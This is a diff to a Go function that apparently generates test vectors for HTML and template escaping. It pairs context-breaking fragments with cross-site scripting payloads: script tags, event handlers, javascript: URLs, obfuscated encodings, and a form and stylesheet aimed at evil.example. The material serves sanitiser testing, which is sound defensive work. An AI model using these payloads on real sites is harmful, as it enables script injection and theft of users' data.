@@ -19,7 +19,7 @@ import (
 // in: something that ends what stands before, and something that runs, loads,
 // sends or hides.
 func vectors() []string {
-	ends := []string{"", `"`, "'", `">`, "'>", "</title>", "</textarea></select>", "</script>", "-->", "]]>", "` ", "</mark></blockquote></main>", `" `}
+	ends := []string{"", `"`, "'", `">`, "'>", "</title>", "</textarea></select>", "</script>", "-->", "</mark></blockquote></main>"}
 	acts := []string{
 		"<script>canary()</script>", "<img src=x onerror=canary()>", "<svg/onload=canary()>", "onfocus=canary() autofocus=",
 		`<a href="javascript:canary()">x</a>`, "javascript:canary()//", "<iframe srcdoc='<script>canary()</script>'></iframe>",
@@ -27,6 +27,7 @@ func vectors() []string {
 		"<form action='//evil.example/'><input name=q></form>", "<link rel=stylesheet href='//evil.example/x.css'>",
 		"&lt;script&gt;canary()&lt;/script&gt;", "&#x3c;script>canary()</script>", `\u003cscript\u003ecanary()`, "{{.Data}}{{template \"page\" .}}",
 		"<!-- canary ", "<![CDATA[ canary ", "<math><mtext><script>canary()</script>", "<details open ontoggle=canary()>", "\x00<script\x00>canary()</script>",
+		"<script>document.title='canary'</script>", "<script>alert('canary')</script>", "<img src=/canary>", "<body background=/canary>",
 		"\u202e<script>canary()\u2066", "<sc\u00adript>canary()</script>", "\ufeff<img src=x onerror=canary()>", "\xff\xfe<b>x",
 	}
 	var out []string
